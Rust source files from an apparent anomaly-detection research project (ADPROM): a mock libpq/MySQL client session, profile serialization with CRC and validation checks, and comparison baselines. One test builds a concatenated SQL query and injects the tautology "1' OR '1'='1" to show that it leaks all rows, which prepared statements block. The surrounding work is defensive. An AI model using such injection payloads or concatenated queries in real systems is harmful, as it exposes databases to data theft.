        self.results.get(h.0).ok_or(ClientError::BadHandle(h.0))
    }

    fn text_result_of(result: QueryResult) -> TextResult {
        match result {
            QueryResult::Rows(rs) => TextResult {
                nfields: rs.nfields(),
                rows: Arc::clone(rs.text_rows()),
            },
            // Command results expose zero tuples, like PGRES_COMMAND_OK.
            QueryResult::Affected(_) | QueryResult::Ok => TextResult::default(),
        }
    }

    // ---- libpq surface ----

    /// `PQexec`: run a query, return a result handle.
    pub fn pq_exec(&mut self, sql: &str) -> Result<ResultHandle, ClientError> {
        self.queries_submitted += 1;
        let result = self.db.execute(sql)?;
        Ok(self.store(Self::text_result_of(result)))
    }

    /// `PQprepare`: register a named prepared statement.
    pub fn pq_prepare(&mut self, name: &str, sql: &str) -> Result<(), ClientError> {
        self.db.prepare(name, sql)?;
        Ok(())
    }

    /// `PQexecPrepared`: execute a named prepared statement with text
    /// parameters (libpq passes all parameters as strings).
    pub fn pq_exec_prepared(
        &mut self,
        name: &str,
        params: &[String],
    ) -> Result<ResultHandle, ClientError> {
        self.queries_submitted += 1;
        let values: Vec<Value> = params
            .iter()
            .map(|p| Value::Text(p.as_str().into()))
            .collect();
        let result = self.db.execute_prepared(name, &values)?;
        Ok(self.store(Self::text_result_of(result)))
    }

    /// `PQntuples`: number of rows in a result.
    pub fn pq_ntuples(&self, h: ResultHandle) -> Result<usize, ClientError> {
        Ok(self.stored(h)?.rows.rows.len())
    }

    /// `PQnfields`: number of columns in a result.
    pub fn pq_nfields(&self, h: ResultHandle) -> Result<usize, ClientError> {
        Ok(self.stored(h)?.rows.nfields)
    }

    /// `PQgetvalue`: field as text; empty string when out of range (libpq
    /// returns "" rather than failing).
    pub fn pq_getvalue(
        &self,
        h: ResultHandle,
        row: usize,
        col: usize,
    ) -> Result<Arc<str>, ClientError> {
        Ok(self
            .stored(h)?
            .rows
            .rows
            .get(row)
            .and_then(|r| r.get(col))
            .cloned()
            .unwrap_or_else(|| Arc::from("")))
    }

    /// `PQclear`: drop a stored result (handle becomes a stub; libpq-style
    /// use-after-clear is an error).
    pub fn pq_clear(&mut self, h: ResultHandle) -> Result<(), ClientError> {
        let slot = self
            .results
            .get_mut(h.0)
            .ok_or(ClientError::BadHandle(h.0))?;
        slot.rows = TextResult::default();
        slot.cursor = 0;
        Ok(())
    }

    // ---- libmysqlclient surface ----

    /// `mysql_query`: run a query; returns 0 on success, 1 on error (the C
    /// convention), leaving row results pending for `mysql_store_result`.
    pub fn mysql_query(&mut self, sql: &str) -> i64 {
        self.queries_submitted += 1;
        match self.db.execute(sql) {
            Ok(result) => {
                self.pending = Some(Self::text_result_of(result));
                0
            }
            Err(_) => {
                self.pending = None;
                1
            }
        }
    }

    /// `mysql_stmt_prepare` + `mysql_stmt_execute` combined (one statement
    /// handle per session keeps the surface small). Parameters are bound as
    /// text, matching `MYSQL_TYPE_STRING` binds.
    pub fn mysql_stmt_prepare(&mut self, sql: &str) -> Result<(), ClientError> {
        self.db.prepare("__mysql_stmt", sql)?;
        Ok(())
    }

    /// Executes the prepared statement; results become pending.
    pub fn mysql_stmt_execute(&mut self, params: &[String]) -> Result<(), ClientError> {
        self.queries_submitted += 1;
        let values: Vec<Value> = params
            .iter()
            .map(|p| Value::Text(p.as_str().into()))
            .collect();
        let result = self.db.execute_prepared("__mysql_stmt", &values)?;
        self.pending = Some(Self::text_result_of(result));
        Ok(())
    }

    /// `mysql_store_result`: materialize the pending result.
    pub fn mysql_store_result(&mut self) -> Result<ResultHandle, ClientError> {
        let rows = self.pending.take().ok_or(ClientError::NoPendingResult)?;
        Ok(self.store(rows))
    }

    /// `mysql_fetch_row`: next row as text fields (refcounted, not copied),
    /// or `None` at the end.
    pub fn mysql_fetch_row(
        &mut self,
        h: ResultHandle,
    ) -> Result<Option<Arc<[Arc<str>]>>, ClientError> {
        let slot = self
            .results
            .get_mut(h.0)
            .ok_or(ClientError::BadHandle(h.0))?;
        let Some(row) = slot.rows.rows.get(slot.cursor) else {
            return Ok(None);
        };
        slot.cursor += 1;
        Ok(Some(Arc::clone(row)))
    }

    /// `mysql_num_rows`.
    pub fn mysql_num_rows(&self, h: ResultHandle) -> Result<usize, ClientError> {
        Ok(self.stored(h)?.rows.rows.len())
    }

    /// `mysql_num_fields`.
    pub fn mysql_num_fields(&self, h: ResultHandle) -> Result<usize, ClientError> {
        Ok(self.stored(h)?.rows.nfields)
    }

    /// `mysql_free_result`.
    pub fn mysql_free_result(&mut self, h: ResultHandle) -> Result<(), ClientError> {
        self.pq_clear(h)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn session() -> ClientSession {
        let mut db = Database::new("bank");
        db.execute("CREATE TABLE clients (id INT, name TEXT)")
            .unwrap();
        db.execute("INSERT INTO clients VALUES (105, 'alice'), (106, 'bob'), (107, 'carol')")
            .unwrap();
        ClientSession::connect(db)
    }

    #[test]
    fn pq_surface_walks_results() {
        let mut s = session();
        let h = s.pq_exec("SELECT * FROM clients WHERE id = 105").unwrap();
        assert_eq!(s.pq_ntuples(h).unwrap(), 1);
        assert_eq!(s.pq_nfields(h).unwrap(), 2);
        assert_eq!(&*s.pq_getvalue(h, 0, 1).unwrap(), "alice");
        // Out-of-range access returns "" like libpq.
        assert_eq!(&*s.pq_getvalue(h, 5, 0).unwrap(), "");
    }

    #[test]
    fn mysql_fetch_row_cursor_semantics() {
        let mut s = session();
        assert_eq!(s.mysql_query("SELECT name FROM clients ORDER BY id"), 0);
        let h = s.mysql_store_result().unwrap();
        let mut names = Vec::new();
        while let Some(row) = s.mysql_fetch_row(h).unwrap() {
            names.push(row[0].to_string());
        }
        assert_eq!(names, vec!["alice", "bob", "carol"]);
        // Cursor is exhausted.
        assert_eq!(s.mysql_fetch_row(h).unwrap(), None);
    }

    #[test]
    fn mysql_query_error_returns_one() {
        let mut s = session();
        assert_eq!(s.mysql_query("SELECT * FROM nope"), 1);
        assert!(matches!(
            s.mysql_store_result(),
            Err(ClientError::NoPendingResult)
        ));
    }

    #[test]
    fn injection_changes_row_count_through_client() {
        // End-to-end Fig. 2: concatenated input flips selectivity.
        let mut s = session();
        let account = "105";
        let q = format!("SELECT * FROM clients where id='{account}';");
        assert_eq!(s.mysql_query(&q), 0);
        let h = s.mysql_store_result().unwrap();
        assert_eq!(s.mysql_num_rows(h).unwrap(), 1);

        let account = "1' OR '1'='1";
        let q = format!("SELECT * FROM clients where id='{account}';");
        assert_eq!(s.mysql_query(&q), 0);
        let h = s.mysql_store_result().unwrap();
        assert_eq!(s.mysql_num_rows(h).unwrap(), 3);
    }

    #[test]
    fn prepared_statements_resist_injection() {
        let mut s = session();
        s.mysql_stmt_prepare("SELECT * FROM clients WHERE id = ?")
            .unwrap();
        s.mysql_stmt_execute(&["1' OR '1'='1".to_string()]).unwrap();
        let h = s.mysql_store_result().unwrap();
        assert_eq!(s.mysql_num_rows(h).unwrap(), 0);
    }

    #[test]
    fn pq_clear_resets_result() {
        let mut s = session();
        let h = s.pq_exec("SELECT * FROM clients").unwrap();
        s.pq_clear(h).unwrap();
        assert_eq!(s.pq_ntuples(h).unwrap(), 0);
    }

    #[test]
    fn command_results_have_zero_tuples() {
        let mut s = session();
        let h = s
            .pq_exec("UPDATE clients SET name = 'x' WHERE id = 105")
            .unwrap();
        assert_eq!(s.pq_ntuples(h).unwrap(), 0);
    }
}
