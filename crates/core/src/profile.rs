//! Application profiles: the artifact the training phase produces and the
//! detection phase consumes, plus JSON (de)serialization (the paper reports
//! an averaged on-disk profile size of ~31 kB).
//!
//! # On-disk format
//!
//! [`Profile::save`] writes a versioned, checksummed envelope:
//!
//! ```text
//! ADPROM-PROFILE v1 len=<payload bytes> crc32=<8 hex digits>
//! {…profile JSON…}
//! ```
//!
//! [`Profile::load`] verifies the header, length, and CRC-32 before
//! parsing, then semantically validates the profile
//! ([`Profile::validate`]: row-stochastic A/B/π within tolerance, finite
//! entries, HMM dimensions matching the alphabet) — a poisoned profile is
//! refused instead of silently scoring garbage. Legacy files (raw JSON,
//! as written before the envelope existed) still load, and go through the
//! same validation. [`LoadPolicy::Repair`] additionally renormalizes rows
//! that drifted slightly (≤ 1e-3) from stochasticity, e.g. through a
//! lossy serialization round-trip.
//!
//! Writes go through a temp file + rename so a crash mid-save never
//! leaves a half-written profile at the target path, and every I/O error
//! carries the offending path.

use crate::alphabet::Alphabet;
use adprom_hmm::{normalize, Hmm};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;
use std::path::{Path, PathBuf};

/// A trained application profile.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Profile {
    /// Application name.
    pub app_name: String,
    /// The observation alphabet (labels ∪ `<unk>`).
    pub alphabet: Alphabet,
    /// The trained model λ.
    pub hmm: Hmm,
    /// Window length n (paper: 15).
    pub window: usize,
    /// Log-likelihood threshold: windows scoring below are flagged.
    pub threshold: f64,
    /// Callers observed per call name in training — the out-of-context
    /// check ("a library call issued from a function that usually does not
    /// issue such a call").
    pub call_callers: BTreeMap<String, BTreeSet<String>>,
    /// Labels of DDG-labeled output statements (`*_Q<bid>`): their presence
    /// in an anomalous window upgrades the flag to DataLeak.
    pub labeled_outputs: Vec<String>,
}

/// Why a profile failed semantic validation.
#[derive(Debug, Clone, PartialEq)]
pub enum ProfileDefect {
    /// HMM dimensions do not match each other or the alphabet.
    Dims(String),
    /// A row of A/B or π is not a probability distribution.
    NotStochastic(String),
    /// The detection window is zero.
    BadWindow,
    /// The threshold is NaN or infinite.
    BadThreshold,
}

impl fmt::Display for ProfileDefect {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ProfileDefect::Dims(what) => write!(f, "dimension mismatch: {what}"),
            ProfileDefect::NotStochastic(what) => write!(f, "not stochastic: {what}"),
            ProfileDefect::BadWindow => write!(f, "window length is 0"),
            ProfileDefect::BadThreshold => write!(f, "threshold is not finite"),
        }
    }
}

/// Profile persistence errors.
#[derive(Debug)]
pub enum ProfileIoError {
    /// Filesystem failure, with the offending path.
    Io {
        /// The file being read or written.
        path: PathBuf,
        /// The underlying error.
        source: std::io::Error,
    },
    /// Serialization failure.
    Serde(serde_json::Error),
    /// The envelope checksum does not match the payload (bit rot or a
    /// torn write).
    Checksum {
        /// The file that failed verification.
        path: PathBuf,
        /// CRC-32 the header claims.
        expected: u32,
        /// CRC-32 of the payload as read.
        actual: u32,
    },
    /// The envelope header is malformed or of an unsupported version.
    Header {
        /// The file with the bad header.
        path: PathBuf,
        /// What was wrong.
        detail: String,
    },
    /// The profile parsed but failed semantic validation.
    Invalid(ProfileDefect),
}

impl fmt::Display for ProfileIoError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ProfileIoError::Io { path, source } => {
                write!(f, "io error on {}: {source}", path.display())
            }
            ProfileIoError::Serde(e) => write!(f, "serialization error: {e}"),
            ProfileIoError::Checksum {
                path,
                expected,
                actual,
            } => write!(
                f,
                "checksum mismatch in {}: header {expected:08x}, payload {actual:08x}",
                path.display()
            ),
            ProfileIoError::Header { path, detail } => {
                write!(f, "bad profile envelope in {}: {detail}", path.display())
            }
            ProfileIoError::Invalid(defect) => write!(f, "invalid profile: {defect}"),
        }
    }
}

impl std::error::Error for ProfileIoError {}

/// How [`Profile::load_with`] treats semantic defects.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LoadPolicy {
    /// Any defect refuses the profile (the default; what
    /// [`Profile::load`] does).
    Strict,
    /// Rows of A/B/π whose sums drifted by at most 1e-3 are renormalized;
    /// anything worse (non-finite entries, bigger drift, dimension
    /// mismatches) still refuses.
    Repair,
}

/// Envelope magic + version (the whole first token must match).
const ENVELOPE_MAGIC: &str = "ADPROM-PROFILE";
const ENVELOPE_VERSION: u32 = 1;
/// Largest per-row drift [`LoadPolicy::Repair`] will renormalize away.
const REPAIR_TOLERANCE: f64 = 1e-3;

impl Profile {
    /// Serializes the profile to JSON (the envelope payload).
    pub fn to_json(&self) -> Result<String, ProfileIoError> {
        serde_json::to_string(self).map_err(ProfileIoError::Serde)
    }

    /// Deserializes a profile from JSON. Parse-only: callers that accept
    /// untrusted bytes should follow with [`Profile::validate`] (as
    /// [`Profile::load`] does).
    pub fn from_json(json: &str) -> Result<Profile, ProfileIoError> {
        let mut p: Profile = serde_json::from_str(json).map_err(ProfileIoError::Serde)?;
        p.alphabet.rebuild_index();
        Ok(p)
    }

    /// Writes the profile to `path` as a versioned, CRC-checked envelope,
    /// via a temp file + rename so a crash never leaves a torn profile.
    pub fn save(&self, path: &Path) -> Result<(), ProfileIoError> {
        let payload = self.to_json()?;
        let envelope = format!(
            "{ENVELOPE_MAGIC} v{ENVELOPE_VERSION} len={} crc32={:08x}\n{payload}",
            payload.len(),
            adprom_obs::crc32(payload.as_bytes()),
        );
        let io_err = |source| ProfileIoError::Io {
            path: path.to_path_buf(),
            source,
        };
        let tmp = path.with_extension("tmp");
        std::fs::write(&tmp, envelope).map_err(|source| ProfileIoError::Io {
            path: tmp.clone(),
            source,
        })?;
        std::fs::rename(&tmp, path).map_err(io_err)
    }

    /// Loads and strictly validates a profile (envelope or legacy raw
    /// JSON).
    pub fn load(path: &Path) -> Result<Profile, ProfileIoError> {
        Profile::load_with(path, LoadPolicy::Strict)
    }

    /// [`Profile::load`] with an explicit defect policy.
    pub fn load_with(path: &Path, policy: LoadPolicy) -> Result<Profile, ProfileIoError> {
        let data = std::fs::read_to_string(path).map_err(|source| ProfileIoError::Io {
            path: path.to_path_buf(),
            source,
        })?;
        let payload = if let Some(rest) = data.strip_prefix(ENVELOPE_MAGIC) {
            parse_envelope(path, rest)?
        } else {
            // Legacy profiles are raw JSON with no header.
            data.as_str()
        };
        let mut profile = Profile::from_json(payload)?;
        match profile.validate() {
            Ok(()) => Ok(profile),
            Err(defect) if policy == LoadPolicy::Repair => {
                profile.repair().map_err(ProfileIoError::Invalid)?;
                let _ = defect;
                Ok(profile)
            }
            Err(defect) => Err(ProfileIoError::Invalid(defect)),
        }
    }

    /// Semantic validation: finite threshold, non-zero window, HMM
    /// dimensions matching the alphabet, and row-stochastic A/B/π within
    /// the model tolerance (1e-6).
    pub fn validate(&self) -> Result<(), ProfileDefect> {
        if self.window == 0 {
            return Err(ProfileDefect::BadWindow);
        }
        if !self.threshold.is_finite() {
            return Err(ProfileDefect::BadThreshold);
        }
        if self.hmm.n_states() == 0 {
            return Err(ProfileDefect::Dims("HMM has 0 states".into()));
        }
        if self.hmm.n_symbols() != self.alphabet.len() {
            return Err(ProfileDefect::Dims(format!(
                "HMM emits {} symbols but the alphabet has {}",
                self.hmm.n_symbols(),
                self.alphabet.len()
            )));
        }
        self.hmm.validate().map_err(|e| match e {
            adprom_hmm::HmmError::NotStochastic(what) => ProfileDefect::NotStochastic(what),
            other => ProfileDefect::Dims(other.to_string()),
        })
    }

    /// Renormalizes rows of A/B/π whose sums drifted by at most 1e-3;
    /// refuses (returning the defect) on non-finite entries, negative
    /// entries, larger drift, or dimension mismatches. Returns the labels
    /// of the rows repaired.
    pub fn repair(&mut self) -> Result<Vec<String>, ProfileDefect> {
        if self.window == 0 {
            return Err(ProfileDefect::BadWindow);
        }
        if !self.threshold.is_finite() {
            return Err(ProfileDefect::BadThreshold);
        }
        if self.hmm.n_states() == 0 || self.hmm.n_symbols() != self.alphabet.len() {
            return Err(ProfileDefect::Dims("dimensions beyond repair".into()));
        }
        let n = self.hmm.n_states();
        let mut repaired = Vec::new();
        for i in 0..n {
            if let Some(label) = repair_row(self.hmm.a_row_mut(i), &format!("A row {i}"))? {
                repaired.push(label);
            }
        }
        for i in 0..n {
            if let Some(label) = repair_row(self.hmm.b_row_mut(i), &format!("B row {i}"))? {
                repaired.push(label);
            }
        }
        if let Some(label) = repair_row(&mut self.hmm.pi, "pi")? {
            repaired.push(label);
        }
        // Whatever repair did must leave a valid profile.
        self.validate()?;
        Ok(repaired)
    }

    /// Serialized (envelope payload) size in bytes — the §V-C "profile
    /// size" figure. Errors if the profile fails to serialize instead of
    /// silently reporting 0.
    pub fn serialized_size(&self) -> Result<usize, ProfileIoError> {
        self.to_json().map(|s| s.len())
    }

    /// True when `caller` was never seen issuing `name` during training.
    /// Unknown call names are not out-of-context by themselves (they are
    /// caught by the `<unk>` likelihood path instead).
    pub fn is_out_of_context(&self, name: &str, caller: &str) -> bool {
        match self.call_callers.get(name) {
            Some(callers) => !callers.contains(caller),
            None => false,
        }
    }
}

/// Renormalizes one distribution if it drifted within tolerance. Returns
/// `Ok(Some(label))` when repaired, `Ok(None)` when already valid.
fn repair_row(row: &mut [f64], label: &str) -> Result<Option<String>, ProfileDefect> {
    if row.iter().any(|&v| !v.is_finite() || v < 0.0) {
        return Err(ProfileDefect::NotStochastic(format!(
            "{label} has non-finite or negative entries"
        )));
    }
    let sum: f64 = row.iter().sum();
    if (sum - 1.0).abs() <= 1e-6 {
        return Ok(None);
    }
    if (sum - 1.0).abs() > REPAIR_TOLERANCE || sum <= 0.0 {
        return Err(ProfileDefect::NotStochastic(format!(
            "{label} sums to {sum}, beyond repair tolerance"
        )));
    }
    normalize(row);
    Ok(Some(label.to_string()))
}

/// Parses `rest` (everything after the magic) and returns the payload
/// slice after verifying version, length, and CRC.
fn parse_envelope<'a>(path: &Path, rest: &'a str) -> Result<&'a str, ProfileIoError> {
    let header_err = |detail: String| ProfileIoError::Header {
        path: path.to_path_buf(),
        detail,
    };
    let nl = rest
        .find('\n')
        .ok_or_else(|| header_err("missing header line terminator".into()))?;
    let (header, payload) = (&rest[..nl], &rest[nl + 1..]);
    let mut version = None;
    let mut len = None;
    let mut crc = None;
    for token in header.split_whitespace() {
        if let Some(v) = token.strip_prefix('v') {
            version = v.parse::<u32>().ok();
        } else if let Some(v) = token.strip_prefix("len=") {
            len = v.parse::<usize>().ok();
        } else if let Some(v) = token.strip_prefix("crc32=") {
            crc = u32::from_str_radix(v, 16).ok();
        }
    }
    match version {
        Some(ENVELOPE_VERSION) => {}
        Some(v) => return Err(header_err(format!("unsupported version {v}"))),
        None => return Err(header_err("missing or malformed version".into())),
    }
    let len = len.ok_or_else(|| header_err("missing or malformed len".into()))?;
    let expected = crc.ok_or_else(|| header_err("missing or malformed crc32".into()))?;
    if payload.len() != len {
        return Err(header_err(format!(
            "payload is {} bytes, header says {len}",
            payload.len()
        )));
    }
    let actual = adprom_obs::crc32(payload.as_bytes());
    if actual != expected {
        return Err(ProfileIoError::Checksum {
            path: path.to_path_buf(),
            expected,
            actual,
        });
    }
    Ok(payload)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_profile() -> Profile {
        let alphabet = Alphabet::new(vec!["printf".to_string(), "PQexec".to_string()]);
        let hmm = Hmm::uniform(alphabet.len(), alphabet.len());
        let mut call_callers = BTreeMap::new();
        call_callers.insert(
            "printf".to_string(),
            ["main".to_string()].into_iter().collect::<BTreeSet<_>>(),
        );
        Profile {
            app_name: "demo".into(),
            alphabet,
            hmm,
            window: 15,
            threshold: -30.0,
            call_callers,
            labeled_outputs: vec!["printf_Q6".to_string()],
        }
    }

    fn temp_path(name: &str) -> PathBuf {
        let dir = std::env::temp_dir().join("adprom-profile-test");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join(name);
        let _ = std::fs::remove_file(&path);
        path
    }

    #[test]
    fn json_round_trip() {
        let p = sample_profile();
        let json = p.to_json().unwrap();
        let q = Profile::from_json(&json).unwrap();
        assert_eq!(p, q);
        // Index usable after reload.
        assert_eq!(q.alphabet.encode("printf"), 0);
    }

    #[test]
    fn save_and_load() {
        let p = sample_profile();
        let path = temp_path("demo.profile.json");
        p.save(&path).unwrap();
        let q = Profile::load(&path).unwrap();
        assert_eq!(p, q);
        assert!(p.serialized_size().unwrap() > 100);
        std::fs::remove_file(path).ok();
    }

    #[test]
    fn saved_files_carry_a_checked_envelope() {
        let p = sample_profile();
        let path = temp_path("envelope.profile.json");
        p.save(&path).unwrap();
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(text.starts_with("ADPROM-PROFILE v1 len="), "{text}");
        std::fs::remove_file(path).ok();
    }

    #[test]
    fn legacy_raw_json_profiles_still_load() {
        let p = sample_profile();
        let path = temp_path("legacy.profile.json");
        std::fs::write(&path, p.to_json().unwrap()).unwrap();
        let q = Profile::load(&path).unwrap();
        assert_eq!(p, q);
        std::fs::remove_file(path).ok();
    }

    #[test]
    fn corrupted_payload_is_refused_with_checksum_error() {
        let p = sample_profile();
        let path = temp_path("bitrot.profile.json");
        p.save(&path).unwrap();
        let mut data = std::fs::read(&path).unwrap();
        let victim = data.len() - 10;
        data[victim] ^= 0x01;
        std::fs::write(&path, &data).unwrap();
        match Profile::load(&path) {
            Err(ProfileIoError::Checksum { path: p, .. }) => {
                assert!(p.to_string_lossy().contains("bitrot"))
            }
            other => panic!("expected checksum error, got {other:?}"),
        }
        std::fs::remove_file(path).ok();
    }

    #[test]
    fn tampered_header_is_refused() {
        let p = sample_profile();
        let path = temp_path("header.profile.json");
        p.save(&path).unwrap();
        let text = std::fs::read_to_string(&path).unwrap();
        let bad = text.replacen("v1", "v9", 1);
        std::fs::write(&path, bad).unwrap();
        assert!(matches!(
            Profile::load(&path),
            Err(ProfileIoError::Header { .. })
        ));
        std::fs::remove_file(path).ok();
    }

    #[test]
    fn io_errors_carry_the_offending_path() {
        let missing = Path::new("/nonexistent-adprom/profile.json");
        match Profile::load(missing) {
            Err(ProfileIoError::Io { path, .. }) => assert_eq!(path, missing),
            other => panic!("expected io error, got {other:?}"),
        }
        let err = Profile::load(missing).unwrap_err().to_string();
        assert!(err.contains("/nonexistent-adprom/profile.json"), "{err}");
    }

    #[test]
    fn semantically_poisoned_profiles_are_refused() {
        let mut p = sample_profile();
        p.hmm.a_row_mut(0)[0] = f64::NAN;
        let path = temp_path("poisoned.profile.json");
        // Bypass save-time checks by writing the raw JSON directly.
        std::fs::write(&path, p.to_json().unwrap()).unwrap();
        assert!(matches!(
            Profile::load(&path),
            Err(ProfileIoError::Invalid(ProfileDefect::NotStochastic(_)))
        ));
        std::fs::remove_file(path).ok();

        let mut p = sample_profile();
        p.window = 0;
        assert_eq!(p.validate(), Err(ProfileDefect::BadWindow));
        let mut p = sample_profile();
        p.threshold = f64::INFINITY;
        assert_eq!(p.validate(), Err(ProfileDefect::BadThreshold));
    }

    #[test]
    fn repair_renormalizes_small_drift_only() {
        let mut p = sample_profile();
        let row = p.hmm.a_row_mut(0);
        row[0] += 5e-4; // within repair tolerance, beyond validation
        assert!(p.validate().is_err());
        let path = temp_path("drift.profile.json");
        std::fs::write(&path, p.to_json().unwrap()).unwrap();
        assert!(matches!(
            Profile::load(&path),
            Err(ProfileIoError::Invalid(_))
        ));
        let repaired = Profile::load_with(&path, LoadPolicy::Repair).unwrap();
        assert!(repaired.validate().is_ok());
        std::fs::remove_file(path).ok();

        // Big drift is beyond repair.
        let mut p = sample_profile();
        p.hmm.a_row_mut(0)[0] += 0.5;
        assert!(p.repair().is_err());
    }

    #[test]
    fn out_of_context_logic() {
        let p = sample_profile();
        assert!(!p.is_out_of_context("printf", "main"));
        assert!(p.is_out_of_context("printf", "helper"));
        // Unknown names are handled by <unk> scoring, not context.
        assert!(!p.is_out_of_context("evil", "main"));
    }
}
