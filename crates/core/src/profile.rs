//! Application profiles: the artifact the training phase produces and the
//! detection phase consumes, plus JSON (de)serialization (the paper reports
//! an averaged on-disk profile size of ~31 kB).

use crate::alphabet::Alphabet;
use adprom_hmm::Hmm;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;
use std::path::Path;

/// A trained application profile.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Profile {
    /// Application name.
    pub app_name: String,
    /// The observation alphabet (labels ∪ `<unk>`).
    pub alphabet: Alphabet,
    /// The trained model λ.
    pub hmm: Hmm,
    /// Window length n (paper: 15).
    pub window: usize,
    /// Log-likelihood threshold: windows scoring below are flagged.
    pub threshold: f64,
    /// Callers observed per call name in training — the out-of-context
    /// check ("a library call issued from a function that usually does not
    /// issue such a call").
    pub call_callers: BTreeMap<String, BTreeSet<String>>,
    /// Labels of DDG-labeled output statements (`*_Q<bid>`): their presence
    /// in an anomalous window upgrades the flag to DataLeak.
    pub labeled_outputs: Vec<String>,
}

/// Profile persistence errors.
#[derive(Debug)]
pub enum ProfileIoError {
    /// Filesystem failure.
    Io(std::io::Error),
    /// Serialization failure.
    Serde(serde_json::Error),
}

impl fmt::Display for ProfileIoError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ProfileIoError::Io(e) => write!(f, "io error: {e}"),
            ProfileIoError::Serde(e) => write!(f, "serialization error: {e}"),
        }
    }
}

impl std::error::Error for ProfileIoError {}

impl Profile {
    /// Serializes the profile to JSON.
    pub fn to_json(&self) -> Result<String, ProfileIoError> {
        serde_json::to_string(self).map_err(ProfileIoError::Serde)
    }

    /// Deserializes a profile from JSON.
    pub fn from_json(json: &str) -> Result<Profile, ProfileIoError> {
        let mut p: Profile = serde_json::from_str(json).map_err(ProfileIoError::Serde)?;
        p.alphabet.rebuild_index();
        Ok(p)
    }

    /// Writes the profile to a file.
    pub fn save(&self, path: &Path) -> Result<(), ProfileIoError> {
        std::fs::write(path, self.to_json()?).map_err(ProfileIoError::Io)
    }

    /// Loads a profile from a file.
    pub fn load(path: &Path) -> Result<Profile, ProfileIoError> {
        let json = std::fs::read_to_string(path).map_err(ProfileIoError::Io)?;
        Profile::from_json(&json)
    }

    /// Serialized size in bytes (the §V-C "profile size" figure).
    pub fn serialized_size(&self) -> usize {
        self.to_json().map(|s| s.len()).unwrap_or(0)
    }

    /// True when `caller` was never seen issuing `name` during training.
    /// Unknown call names are not out-of-context by themselves (they are
    /// caught by the `<unk>` likelihood path instead).
    pub fn is_out_of_context(&self, name: &str, caller: &str) -> bool {
        match self.call_callers.get(name) {
            Some(callers) => !callers.contains(caller),
            None => false,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_profile() -> Profile {
        let alphabet = Alphabet::new(vec!["printf".to_string(), "PQexec".to_string()]);
        let hmm = Hmm::uniform(alphabet.len(), alphabet.len());
        let mut call_callers = BTreeMap::new();
        call_callers.insert(
            "printf".to_string(),
            ["main".to_string()].into_iter().collect::<BTreeSet<_>>(),
        );
        Profile {
            app_name: "demo".into(),
            alphabet,
            hmm,
            window: 15,
            threshold: -30.0,
            call_callers,
            labeled_outputs: vec!["printf_Q6".to_string()],
        }
    }

    #[test]
    fn json_round_trip() {
        let p = sample_profile();
        let json = p.to_json().unwrap();
        let q = Profile::from_json(&json).unwrap();
        assert_eq!(p, q);
        // Index usable after reload.
        assert_eq!(q.alphabet.encode("printf"), 0);
    }

    #[test]
    fn save_and_load() {
        let p = sample_profile();
        let dir = std::env::temp_dir().join("adprom-profile-test");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("demo.profile.json");
        p.save(&path).unwrap();
        let q = Profile::load(&path).unwrap();
        assert_eq!(p, q);
        assert!(p.serialized_size() > 100);
        std::fs::remove_file(path).ok();
    }

    #[test]
    fn out_of_context_logic() {
        let p = sample_profile();
        assert!(!p.is_out_of_context("printf", "main"));
        assert!(p.is_out_of_context("printf", "helper"));
        // Unknown names are handled by <unk> scoring, not context.
        assert!(!p.is_out_of_context("evil", "main"));
    }
}
