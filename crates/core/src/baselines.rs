//! The comparison systems of §V: CMarkov \[12\] and Rand-HMM \[33\].
//!
//! * **CMarkov** initializes its HMM from the same static analysis but
//!   performs *no data-flow analysis*: no `_Q<bid>` labels, no block ids,
//!   and no caller tracking — so it "cannot distinguish anomalous actions
//!   on the TD from other activities" (Table V) and misses attacks whose
//!   call sequences look identical without labels.
//! * **Rand-HMM** ignores the static analysis entirely and initializes the
//!   model randomly, relying on program traces alone (Fig. 10's baseline).

use crate::alphabet::Alphabet;
use crate::constructor::{trace_windows, BuildReport, ConstructorConfig};
use crate::init::init_from_pctm;
use crate::profile::Profile;
use crate::threshold::select_threshold;
use adprom_analysis::{Analysis, CallLabel, Ctm};
use adprom_hmm::{train, Hmm};
use adprom_trace::CallEvent;
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::SeedableRng;
use std::collections::BTreeMap;

/// Strips a DDG decoration: `printf_Q6` → `printf`. Names without the
/// `_Q<digits>` suffix pass through unchanged.
pub fn strip_label(name: &str) -> &str {
    if let Some(pos) = name.rfind("_Q") {
        if name[pos + 2..].chars().all(|c| c.is_ascii_digit()) && !name[pos + 2..].is_empty() {
            return &name[..pos];
        }
    }
    name
}

/// Rewrites a pCTM onto the undecorated alphabet (merging labeled entries
/// into their base calls) — what CMarkov's analysis produces.
pub fn strip_ctm(pctm: &Ctm) -> Ctm {
    let mut out = Ctm::new();
    let strip = |l: &CallLabel| -> CallLabel {
        match l {
            CallLabel::Lib(name) => CallLabel::Lib(strip_label(name).to_string()),
            other => other.clone(),
        }
    };
    let labels = pctm.labels().to_vec();
    for (i, from) in labels.iter().enumerate() {
        for (j, to) in labels.iter().enumerate() {
            let p = pctm.at(i, j);
            if p > 0.0 {
                out.add(strip(from), strip(to), p);
            }
        }
    }
    out
}

/// Strips labels from a trace (CMarkov's collector view: raw call names).
pub fn strip_trace(trace: &[CallEvent]) -> Vec<CallEvent> {
    trace
        .iter()
        .map(|e| CallEvent {
            name: strip_label(&e.name).into(),
            ..e.clone()
        })
        .collect()
}

/// Builds a CMarkov profile: static (pCTM) initialization, but no DDG
/// labels and no caller tracking.
pub fn build_cmarkov(
    app_name: &str,
    analysis: &Analysis,
    traces: &[Vec<CallEvent>],
    config: &ConstructorConfig,
) -> (Profile, BuildReport) {
    let stripped_pctm = strip_ctm(&analysis.pctm);
